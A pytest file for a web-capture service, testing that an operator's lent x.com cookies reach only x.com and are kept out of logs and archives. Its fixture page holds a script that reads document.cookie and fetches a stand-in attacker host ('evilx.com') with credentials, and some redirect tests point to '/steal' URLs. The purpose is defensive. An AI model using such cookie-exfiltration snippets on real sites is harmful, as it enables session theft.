"""A visit with an operator's cookies: the platform sees them, nobody else does, and nothing that is kept holds one."""

import gzip
import io
import quopri
import zipfile
from collections import defaultdict
from dataclasses import replace

import pytest
import pytest_asyncio
import structlog
from aiohttp import web

from service import platforms
from service.capture.chromium import Chromium
from service.model.capture import Grade, Isolation
from service.model.framing import Framing, Method
from service.model.ids import EmbedId
from service.net import cookies
from service.net.guard import Dialler
from service.seal import read, seal
from tests.browser.conftest import now
from tests.seal import sample

pytestmark = [pytest.mark.asyncio(loop_scope="session"), pytest.mark.browser]

TOKEN, CSRF, RENEWED = "tok3n-of-the-operator", "csrf/of&the-operator", "r3newed-by-the-platform"
FILE = f"""# Netscape HTTP Cookie File
#HttpOnly_.x.com\tTRUE\t/\tTRUE\t0\tauth_token\t{TOKEN}
.x.com\tTRUE\t/\tFALSE\t0\tct0\t{CSRF}
.twitter.com\tTRUE\t/\tTRUE\t0\tother\tother-s3cret-value
"""
TEXT = "The bridge reopens on Monday, three weeks early."
POST = "https://x.com/ana/status/20"
HOSTS = ("x.com", "api.x.com", "evilx.com", "x.com.evil.example", "twitter.com")
PAGE = f"""<!doctype html><meta charset=utf-8><link rel=icon href="data:,"><article class=post><p>{TEXT}</p></article>
<script src="https://api.x.com/own.js"></script>
<img src="https://evilx.com/a.png"><img src="https://x.com.evil.example/a.png"><img src="https://twitter.com/a.png">
<img src="http://x.com/plain.png"><iframe src="https://evilx.com/frame"></iframe><a href="http://x.com/">plain</a>
<script>const csrf = document.cookie.split("ct0=")[1];
document.body.append("cookies:" + document.cookie);
for (const where of ["https://evilx.com/fetched", "https://x.com/api?csrf=" + encodeURIComponent(csrf), "/down"])
  fetch(where, {{credentials: "include", headers: where[0] == "h" && where.includes("//x.") ? {{"x-csrf-token": csrf}} : {{}}}}).catch(() => 0);
fetch("/json", {{method: "POST", body: JSON.stringify({{csrf}})}});</script>"""
FRAME = """<img src="https://x.com/asked-by-another.png"><script>
fetch("https://x.com/asked-by-another", {credentials: "include", mode: "no-cors"}).catch(() => 0)</script>"""


@pytest.fixture(scope="module")
def jar(tmp_path_factory):
    path = tmp_path_factory.mktemp("cookies") / "cookies.txt"
    path.touch(mode=0o600)
    path.write_text(FILE)
    return cookies.read(path, platforms.hosts())


@pytest_asyncio.fixture(scope="module", loop_scope="session")
async def lent(site, jar):
    async with Chromium(Dialler.configured(site.settings), site.settings, now, jar=jar) as browser:
        yield browser


@pytest.fixture
def told(site):
    """What each address was told in `Cookie`."""
    heard = defaultdict(list)

    def says(text, *, kind="text/html", **headers):
        async def answer(request):
            heard[f"{request.scheme}://{request.host}{request.path}"].append(request.headers.get("Cookie", ""))
            return web.Response(text=text, content_type=kind, headers=headers)

        return answer

    for host in HOSTS:
        for path in ("/a.png", "/plain.png", "/fetched", "/asked-by-another", "/asked-by-another.png", "/steal", "/"):
            site.put(path, says("", kind="image/png"), host=host)
    site.put("/frame", says(FRAME), host="evilx.com")
    site.put("/own.js", says(f"var repeated = '{TOKEN}';", kind="text/javascript"), host="api.x.com")
    site.put("/api", says("{}", kind="application/json"), host="x.com")
    site.put("/json", says(f'{{"renewed": "{RENEWED}"}}', kind="application/json", **{"X-Token": TOKEN}), host="x.com")
    renewed = {"Set-Cookie": f"auth_token={RENEWED}; Domain=x.com; Path=/; Secure; HttpOnly"}
    site.put("/ana/status/20", says(PAGE, **renewed), host="x.com")
    site.put("/plain/status/21", says(PAGE), host="x.com")
    return heard, says


def framing(url, **more):
    return Framing(
        method=Method.LIVE_PAGE, url=url, ready=("article.post",), clip=("article.post",), expect=TEXT, **more
    )


def sealed(capture):
    resolution = sample.resolution()
    named = replace(resolution, embed=replace(resolution.embed, id=capture.embed_id))
    return seal(capture, named, sample.circumstances())


def files(capture):
    """Every file that a seal makes of it, what is packed unpacked."""
    snapshot = sealed(capture)
    yield "manifest", snapshot.manifest
    for file in snapshot.files:
        yield file.path, file.body
        if file.path.endswith(".mhtml"):
            yield file.path, quopri.decodestring(file.body)
        if file.path.endswith(".wacz"):
            packed = zipfile.ZipFile(io.BytesIO(file.body))
            for name in packed.namelist():
                body = packed.read(name)
                yield name, gzip.decompress(body) if name.endswith(".gz") else body


async def test_the_platform_sees_them_and_nobody_else(lent, told):
    heard, _ = told
    capture = await lent.visit(EmbedId("x-20"), framing(POST))
    assert capture.grade is Grade.COMPLETE, capture.reasons
    assert heard[POST] == [f"auth_token={TOKEN}; ct0={CSRF}"]
    assert heard["https://api.x.com/own.js"] == [f"ct0={CSRF}; auth_token={RENEWED}"]
    assert heard["https://evilx.com/frame"] == [""]
    for url, said in heard.items():
        own = url.startswith(("https://x.com/", "https://api.x.com/")) and "asked-by-another" not in url
        assert own or set(said) == {""}, url


async def test_nothing_that_is_kept_or_logged_holds_a_value(lent, told):
    with structlog.testing.capture_logs() as lines:
        capture = await lent.visit(EmbedId("x-20"), framing(POST))
    assert "operator" not in repr(lines)
    kept = dict(files(capture))
    assert {"manifest", "page.html", "archive/data.warc.gz", "capture-log.jsonl"} <= set(kept)
    for name, body in files(capture):
        for secret in (TOKEN, CSRF, RENEWED, "csrf%2Fof%26the-operator", "csrf\\/of&the-operator", "csrf/of&amp;the"):
            assert secret.encode() not in body, (name, secret)
    assert b"cookies:ct0=***" in kept["page.html"]
    warc = kept["archive/data.warc.gz"].lower()
    assert b"cookie:" not in warc
    assert b"\r\nx-csrf-token:" not in warc
    assert "page.mhtml" not in kept


async def test_a_snapshot_says_with_whose_cookies_it_was_made(lent, told):
    capture = await lent.visit(EmbedId("x-20"), framing(POST))
    manifest = read(sealed(capture).manifest)
    assert manifest.body["capture"]["cookies"] == [{"domain": "x.com", "names": ["auth_token", "ct0"]}]
    assert (
        "Seen with the operator's cookies of x.com: whoever looks without them may see something else."
        in manifest.warnings
    )
    missing = {each["url"]: each["reason"] for each in manifest.body["network"]["exchanges"]["without_body"]}
    assert missing["https://api.x.com/own.js"] == "The body holds a cookie of the operator's and is left out."
    assert "page.html" in [each["detail"] for each in manifest.body["capture"]["steps"] if "kept-out" in each["step"]]


@pytest.mark.parametrize(
    ("embed", "url"),
    [
        ("x-21", "http://x.com/plain/status/21"),
        ("page-abc", "https://x.com/plain/status/21"),
        ("instagram-abc", "https://x.com/plain/status/21"),
        ("quote-abc", "https://x.com/plain/status/21"),
        ("x-21", "https://x.com.evil.example/plain"),
        ("x-21", "https://evilx.com/plain"),
    ],
)
async def test_a_visit_of_anything_else_is_a_strangers(site, lent, told, embed, url):
    heard, says = told
    for host in ("x.com.evil.example", "evilx.com"):
        site.put("/plain", says(PAGE), host=host)
    capture = await lent.visit(EmbedId(embed), framing(url))
    assert heard[url] == [""]
    assert {said for every in heard.values() for said in every} == {""}
    assert capture.cookies == ()


@pytest.mark.parametrize("away", ["https://evilx.com/steal", "https://x.com.evil.example/steal", "http://x.com/steal"])
async def test_a_redirect_leads_them_nowhere(site, lent, told, away):
    heard, _ = told

    async def leave(_):
        return web.Response(status=302, headers={"Location": away})

    site.put("/away", leave, host="x.com")
    await lent.visit(EmbedId("x-22"), framing("https://x.com/away"))
    assert heard[away] == [""]


async def test_a_night_never_shares_a_page_that_had_them(lent, told):
    heard, _ = told
    with_them = [await lent.visit(EmbedId("x-20"), framing(POST), isolation=Isolation.HOST) for _ in range(2)]
    without = await lent.visit(EmbedId("page-abc"), framing(POST), isolation=Isolation.HOST)
    assert [each.isolation for each in with_them] == [Isolation.CONTEXT] * 2
    assert without.isolation is Isolation.HOST
    assert heard[POST] == [f"auth_token={TOKEN}; ct0={CSRF}"] * 2 + [""]


async def test_the_operator_has_none_unless_they_lend_some(chromium, told):
    heard, _ = told
    capture = await chromium.visit(EmbedId("x-20"), framing(POST))
    assert heard[POST] == [""]
    assert capture.cookies == ()
